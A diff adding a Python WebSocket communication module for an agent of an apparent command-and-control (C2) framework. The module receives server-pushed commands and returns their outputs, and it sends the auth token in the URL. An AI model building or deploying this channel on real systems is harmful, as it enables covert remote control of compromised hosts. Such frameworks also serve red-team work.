@@ -0,0 +1,163 @@
+"""
+Agent.protocols.ws_comm
+
+Handles communication over a persistent WebSocket for agent interaction with the C2 server.
+The server pushes commands as soon as they are queued, so an idle agent costs one open
+connection instead of a stream of polls; liveness is covered by WebSocket ping/pong frames.
+"""
+#!/usr/bin/env python3
+
+import asyncio
+from urllib.parse import urlencode
+import orjson
+import websockets
+from ..logger import logger
+from base import BaseComm
+
+# Seconds between keepalive pings sent by the websockets library, and how long a pong may take
+PING_INTERVAL = 20
+PING_TIMEOUT = 10
+
+
+class WSComm(BaseComm):
+    """
+    Implements WebSocket-based communication for the agent.
+    """
+    def __init__(self, server_url: str, agent_id: str, auth_token: str):
+        """
+        Initializes the WebSocket communication module.
+
+        Args:
+            server_url (str): The base HTTP(S) URL of the C2 server.
+            agent_id (str): The unique identifier of the agent.
+            auth_token (str): Authentication token for secure communication.
+        """
+        base = server_url.rstrip('/').replace("https://", "wss://", 1).replace("http://", "ws://", 1)
+        self.ws_url = f"{base}/ws/agent?{urlencode({'agent_id': agent_id, 'auth_token': auth_token})}"
+        self.agent_id = agent_id
+        self.auth_token = auth_token
+        self._ws = None
+        self._outbox = []  # Command outputs waiting to be sent in one frame
+
+    async def connect(self) -> bool:
+        """
+        Opens the WebSocket connection if it is not already open.
+
+        Returns:
+            bool: True if the connection is open, False if the upgrade failed.
+        """
+        if self._ws is not None:
+            return True
+        try:
+            self._ws = await websockets.connect(
+                self.ws_url, ping_interval=PING_INTERVAL, ping_timeout=PING_TIMEOUT
+            )
+            logger.info("WebSocket connected")
+            return True
+        except Exception as e:
+            logger.error("WebSocket connect error: %s", e)
+            return False
+
+    async def _send(self, payload: dict) -> bool:
+        """
+        Sends a JSON frame, dropping the connection on failure so it is reopened next time.
+
+        Args:
+            payload (dict): The frame to send.
+
+        Returns:
+            bool: True if the frame was sent.
+        """
+        if not await self.connect():
+            return False
+        try:
+            await self._ws.send(orjson.dumps(payload).decode())
+            return True
+        except websockets.ConnectionClosed as e:
+            logger.error("WebSocket send error: %s", e)
+            self._ws = None
+            return False
+
+    async def poll_commands(self) -> list:
+        """
+        Waits for the server to push commands.
+
+        Returns:
+            list: The received commands, or an empty list if the connection dropped.
+        """
+        if not await self.connect():
+            return []
+        try:
+            commands = orjson.loads(await self._ws.recv()).get("commands", [])
+            logger.info("WebSocket commands: %s", commands)
+            return commands
+        except websockets.ConnectionClosed as e:
+            logger.error("WebSocket poll error: %s", e)
+            self._ws = None
+        return []
+
+    async def send_output(self, output: str) -> bool:
+        """
+        Queues command execution output for the next frame.
+
+        Args:
+            output (str): The command execution result.
+
+        Returns:
+            bool: Always True; delivery happens in `flush`.
+        """
+        self._outbox.append(output)
+        return True
+
+    async def flush(self) -> bool:
+        """
+        Sends all queued outputs in a single frame.
+
+        Returns:
+            bool: True if the outbox was sent (or empty), False otherwise.
+        """
+        if not self._outbox:
+            return True
+        if not await self._send({"outputs": self._outbox}):
+            return False
+        self._outbox = []
+        return True
+
+    async def send_message(self, message: str) -> str:
+        """
+        Sends a generic message to the C2 server.
+
+        Args:
+            message (str): The message to send.
+
+        Returns:
+            str: An empty string; the WebSocket channel carries no per-message reply.
+        """
+        await self._send({"message": message})
+        return ""
+
+    async def heartbeat(self) -> bool:
+        """
+        Checks the connection with a WebSocket ping.
+
+        Returns:
+            bool: True if the server answered the ping, False otherwise.
+        """
+        if not await self.connect():
+            return False
+        try:
+            pong = await self._ws.ping()
+            await asyncio.wait_for(pong, PING_TIMEOUT)
+            return True
+        except (websockets.ConnectionClosed, asyncio.TimeoutError) as e:
+            logger.error("WebSocket heartbeat error: %s", e)
+            self._ws = None
+        return False
+
+    async def close(self):
+        """
+        Closes the WebSocket connection.
+        """
+        if self._ws is not None:
+            await self._ws.close()
+            self._ws = None